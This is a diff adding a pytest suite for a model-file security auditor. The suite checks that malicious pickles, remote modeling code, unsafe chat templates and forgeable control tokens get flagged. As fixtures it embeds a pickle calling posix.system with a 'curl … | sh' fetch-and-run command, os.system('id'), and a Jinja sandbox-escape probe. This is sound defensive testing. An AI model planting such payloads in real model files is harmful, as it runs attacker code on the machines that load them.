@@ -1,0 +1,162 @@
+"""What would run, what lies, what user text can forge: each check on a model with that one defect."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from assay.facts.dossier import Dossier, Verdict
+from assay.facts.finding import Kind
+from tests.builders import calls, hub_model, torch_zip
+from tests.builders.hub import config, tokenizer
+from tests.conftest import messages, of
+
+Audit = Callable[..., Dossier]
+
+
+def test_a_well_made_model_passes_with_its_gaps_listed(tmp_path: Path, audit: Audit) -> None:
+    dossier = audit(hub_model(tmp_path / "tiny"))
+    assert dossier.decision.verdict is Verdict.PASSED
+    assert {f.check for f in dossier.findings if f.kind is Kind.FAIL} == set()
+    assert {f.check for f in dossier.findings if f.kind is Kind.REVIEW} == {"token.forgeable"}
+    assert {f.check for f in dossier.findings if f.kind is Kind.OPEN} == {"weights.values-unread", "error-rate.unmeasured", "output.untraced"}
+
+
+def test_a_pickle_that_calls_the_system_is_a_fail_with_its_call(tmp_path: Path, audit: Audit) -> None:
+    model = hub_model(tmp_path / "m", **{"training_args.bin": calls("posix", "system", "curl -s 198.51.100.7/x | sh")})
+    dossier = audit(model)
+    (found,) = of(dossier, "pickle.reaches-outside", Kind.FAIL)
+    assert found.message == "training_args.bin @ 2: loading calls posix.system: posix.system('curl -s 198.51.100.7/x | sh')"
+    assert found.evidence[0].excerpt is not None and bytes.fromhex(found.evidence[0].excerpt).startswith(b"cposix\nsystem\n")
+    assert dossier.decision.verdict is Verdict.FAILED
+
+
+@pytest.mark.parametrize(
+    ("module", "name", "check", "kind"),
+    [
+        ("builtins", "eval", "pickle.reaches-outside", Kind.FAIL),
+        ("torch.hub", "load", "pickle.reaches-outside", Kind.FAIL),
+        ("numpy", "load", "pickle.reaches-outside", Kind.FAIL),
+        ("some_unknown_package", "Thing", "pickle.reaches-outside", Kind.FAIL),
+        ("torch.nn.modules.linear", "Linear", "pickle.library-class", Kind.REVIEW),
+        ("transformers.training_args", "TrainingArguments", "pickle.library-class", Kind.REVIEW),
+        ("torch.nn", "Linear.forward.__globals__", "pickle.reaches-outside", Kind.FAIL),
+    ],
+)
+def test_imports_are_judged_by_exact_lists(tmp_path: Path, audit: Audit, module: str, name: str, check: str, kind: Kind) -> None:
+    model = hub_model(tmp_path / "m", **{"x.pkl": calls(module, name, "x")})
+    assert [f.kind for f in of(audit(model), check)] == [kind]
+
+
+def test_plain_weights_in_a_checkpoint_pass(tmp_path: Path, audit: Audit) -> None:
+    model = hub_model(tmp_path / "m", **{"extra/pytorch_model.bin": torch_zip({"a": ("FloatStorage", (2, 3))})})
+    dossier = audit(model)
+    assert messages(dossier, "pickle.reaches-outside", Kind.PASS) == ["1 pickle program examined, none found"]
+    assert messages(dossier, "pickle.library-class", Kind.PASS) and messages(dossier, "pickle.unfollowed", Kind.PASS)
+
+
+def with_code(tmp_path: Path, source: str, **changes: Any) -> Path:
+    auto = {"auto_map": {"AutoModel": "modeling_x.XModel"}}
+    return hub_model(tmp_path / "m", **{"config.json": json.dumps(config(**auto, **changes)), "modeling_x.py": source})
+
+
+def test_remote_code_is_for_review_with_its_length_and_reach(tmp_path: Path, audit: Audit) -> None:
+    dossier = audit(with_code(tmp_path, "import torch\nclass XModel: pass\n"))
+    assert messages(dossier, "code.remote") == ["config.json makes a loader run modeling_x.py (3 lines; no network, process or execution calls seen)"]
+    assert dossier.decision.verdict is Verdict.PASSED
+
+
+def test_reached_code_that_runs_something_at_import_is_a_fail(tmp_path: Path, audit: Audit) -> None:
+    dossier = audit(with_code(tmp_path, "import os\nos.system('id')\n"))
+    assert messages(dossier, "code.reaches-outside", Kind.FAIL) == ["modeling_x.py:2 starts processes when imported (a config makes loaders import it): os.system('id')"]
+
+
+def test_code_that_only_reaches_outside_when_called_is_for_review(tmp_path: Path, audit: Audit) -> None:
+    dossier = audit(with_code(tmp_path, "import requests\ndef f():\n    requests.get('u')\n"))
+    assert [f.kind for f in of(dossier, "code.reaches-outside")] == [Kind.REVIEW]
+
+
+@pytest.mark.parametrize(
+    ("target", "words"),
+    [("org/other--modeling_x.X", "loads code from another repository: org/other--modeling_x.X"), ("modeling_gone.X", "names code that is not in the model: modeling_gone.X")],
+)
+def test_code_elsewhere_is_a_fail(tmp_path: Path, audit: Audit, target: str, words: str) -> None:
+    model = hub_model(tmp_path / "m", **{"config.json": json.dumps(config(auto_map={"AutoModel": target}))})
+    (message,) = messages(audit(model), "code.elsewhere", Kind.FAIL)
+    assert words in message
+
+
+def with_template(tmp_path: Path, source: str) -> Path:
+    return hub_model(tmp_path / "m", **{"tokenizer_config.json": json.dumps({"chat_template": source})})
+
+
+@pytest.mark.parametrize(
+    ("source", "check", "kind"),
+    [
+        ("{{ ''.__class__ }}", "template.unsafe-construct", Kind.FAIL),
+        ("{% for i in range(10000000) %}{% endfor %}", "template.unsafe-construct", Kind.FAIL),
+        ("{% if 'invoice' in m.content %}x{% endif %}", "template.conditional", Kind.REVIEW),
+        ("{% if '</think>' in m.content %}x{% endif %}", "template.conditional", Kind.PASS),
+        ("{{ strftime_now('%d') }}", "template.conditional", Kind.REVIEW),
+        ("x\u200by", "template.conditional", Kind.FAIL),
+        ("{% if %}", "template.unparsed", Kind.OPEN),
+    ],
+)
+def test_templates_are_judged_by_what_they_do(tmp_path: Path, audit: Audit, source: str, check: str, kind: Kind) -> None:
+    assert [f.kind for f in of(audit(with_template(tmp_path, source)), check)] == [kind]
+
+
+def test_forgeable_tokens_are_counted_and_the_setting_is_named(tmp_path: Path, audit: Audit) -> None:
+    (found,) = of(audit(hub_model(tmp_path / "m")), "token.forgeable", Kind.REVIEW)
+    assert found.message == "tokenizer.json: plain text can produce 3 of 3 control tokens, such as '<|endoftext|>'"
+    assert "split_special_tokens=True" in found.remedy
+    assert [e.name for e in found.evidence] == ["<|endoftext|>", "<|im_start|>", "<|im_end|>"]
+
+
+def test_a_tokenizer_without_control_tokens_passes(tmp_path: Path, audit: Audit) -> None:
+    model = hub_model(tmp_path / "m", **{"tokenizer.json": json.dumps({**tokenizer(), "added_tokens": []})})
+    assert [f.kind for f in of(audit(model), "token.forgeable")] == [Kind.PASS]
+
+
+def test_a_file_without_a_reader_is_open_and_an_image_is_inert(tmp_path: Path, audit: Audit) -> None:
+    model = hub_model(tmp_path / "m", **{"notes.7z": b"7z\xbc\xaf'\x1c", "logo.png": b"\x89PNG\r\n\x1a\n...", "fake.png": b"MZ\x90", "script.txt": b"#!/bin/sh\n"})
+    dossier = audit(model)
+    assert [a.path for a in dossier.artifacts if a.standing == "inert"] == ["logo.png"]
+    assert messages(dossier, "artifact.unread", Kind.OPEN) == [
+        "fake.png: no reader knows this format (it begins with 4d 5a 90)",
+        "notes.7z: no reader knows this format (it begins with 37 7a bc af 27 1c)",
+        "script.txt: no reader knows this format (it begins with 23 21 2f 62 69 6e 2f 73)",
+    ]
+    assert dossier.decision.verdict is Verdict.INCOMPLETE
+
+
+def test_standings_cover_every_byte(tmp_path: Path, audit: Audit) -> None:
+    dossier = audit(hub_model(tmp_path / "m", **{"x.bin": b"?", "a.txt": b"text"}))
+    parts = [dossier.portrait.measured(f"bytes.{name}") or 0 for name in ("examined", "inert", "unexamined")]
+    assert sum(parts) == dossier.portrait.measured("bytes") and all(parts)
+
+
+def test_a_malformed_file_is_open_with_its_offset(tmp_path: Path, audit: Audit) -> None:
+    dossier = audit(hub_model(tmp_path / "m", **{"model.safetensors": b"\xff" * 64}))
+    (found,) = of(dossier, "artifact.malformed", Kind.OPEN)
+    assert found.message.startswith("model.safetensors: safetensors header too long at byte 0")
+    assert dossier.decision.verdict is Verdict.INCOMPLETE
+
+
+def test_a_check_that_crashes_is_open_and_the_audit_goes_on(tmp_path: Path, audit: Audit, monkeypatch: pytest.MonkeyPatch) -> None:
+    from dataclasses import replace
+
+    from assay import checks
+
+    def crash(**facts: object) -> Any:
+        raise KeyError("boom")
+
+    broken = tuple(replace(c, run=crash) if c.rule.id == "token.forgeable" else c for c in checks.installed())
+    monkeypatch.setattr(checks, "installed", lambda: broken)
+    dossier = audit(hub_model(tmp_path / "m"))
+    assert messages(dossier, "token.forgeable", Kind.OPEN) == ["the check itself failed (KeyError: 'boom'); please report this"]
+    assert dossier.decision.verdict is Verdict.INCOMPLETE
